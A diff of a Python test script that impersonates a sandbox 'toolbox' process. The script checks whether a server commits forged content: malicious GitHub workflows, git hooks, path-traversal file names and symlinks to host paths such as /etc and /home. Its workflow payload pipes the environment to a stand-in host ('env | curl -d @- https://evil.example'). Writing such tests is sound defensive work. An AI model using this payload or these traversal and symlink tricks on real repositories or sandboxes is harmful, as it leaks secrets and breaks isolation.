@@ -1,30 +1,48 @@
 """
 Becomes the toolbox. While the server waits for this command, the toolbox is stopped and its pipes are taken, and from then
-on every call of the server's is answered from here: that all went well, and that the workspace holds workflows, files that
-climb out of the repository, hooks of git, and a link to a file of the host's.
-Success: a commit with any of them but the harmless ones, or the content of the host's file in it.
-  impersonate-the-toolbox.py FILE     a file of the host's
+on every call of the server's is answered from here: that all went well, and that the workspace holds what is told it to.
+  impersonate-the-toolbox.py forge FILE
+    Workflows, hooks of git, files that climb out of the repository, and a link to FILE, which is one of the host's.
+    Success: a commit with any of them but the link and one harmless file, or the content of the host's file in it.
+  impersonate-the-toolbox.py cover
+    A link in the place of a directory, and beside it the directory's files, unchanged: a commit cannot hold both.
+    Success: workflows are gone from the commit, or other files without being told.
+  impersonate-the-toolbox.py carry-over
+    Links, and files below them; when the server has kept all that, the sandbox is ended, and the next one gets it.
+    Success: a file FOUND-… is in the next sandbox, outside of its workspace or in its .git.
 """
 import hashlib, io, json, os, select, signal, struct, subprocess, sys, tarfile, time
 
 DATA, HEADERS, PING = 0, 1, 6
 END_STREAM, END_HEADERS, ACK = 1, 4, 1
 
+aim, *words = sys.argv[1:]
 evil = b'on: push\njobs: {steal: {runs-on: ubuntu-latest, steps: [{run: "env | curl -d @- https://evil.example"}]}}\n'
-forged = {
-    'FORGED.md': ('100644', b'The toolbox was replaced.\n'),
-    'link-to-the-host': ('120000', sys.argv[1].encode()),
-    **{
-        path: ('100644', evil)
-        for path in (
-            '.github/workflows/steal.yml', '.github/workflows/ci.yml', '.GitHub/Workflows/x.yml', '.github/actions/x/action.yml',
-            '.github/workflows', '.git/hooks/post-checkout', 'sub/.GIT/config', '../outside', '/etc/cron.d/x', 'a/../../b', './c',
-            'a//b', sys.argv[1], 'docs/..', 'not-utf8-\ufffd',
-        )
-    },
-    # It would delete the workflows that are there.
-    '.github': ('120000', b'automation'),
-}
+
+
+def file(content):
+    return '100644', content
+
+
+def link(target):
+    return '120000', target.encode()
+
+
+forged = {'FORGED.md': file(b'The toolbox was replaced.\n')}
+if aim == 'forge':
+    for path in (
+        '.github/workflows/steal.yml', '.github/workflows/ci.yml', '.GitHub/Workflows/x.yml', '.github/actions/x/action.yml',
+        '.git/hooks/post-checkout', 'sub/.GIT/config', '../outside', '/etc/cron.d/x', 'a/../../b', './c', 'a//b', 'docs/..',
+        words[0], 'not-utf8-\ufffd',
+    ):
+        forged[path] = file(evil)
+    forged['link-to-the-host'] = link(words[0])
+if aim == 'cover':
+    forged.update({'.github': link('automation'), 'docs': link('/etc')})
+if aim == 'carry-over':
+    forged.update({'git': link('.git'), 'home': link('/home/backspace'), 'tmp': link('../tmp')})
+    for name in ('git', 'home', 'tmp', 'base-link'):
+        forged[f'{name}/FOUND-in-{name}'] = file(b'carried over\n')
 
 
 def listing():
@@ -116,5 +134,7 @@ for kind, flags, stream, payload in frames():
         has_asked = True
         bodies[stream] = bodies.get(stream, b'') + (payload if kind == DATA else b'')
         if flags & END_STREAM:
+            if aim == 'carry-over' and b'"command"' in bodies[stream]:
+                sys.exit(os.kill(int(toolbox), signal.SIGKILL))
             frame(HEADERS, END_HEADERS, stream, b'\x88')
             end(stream, answer(json.loads(bodies.pop(stream) or b'{}')))
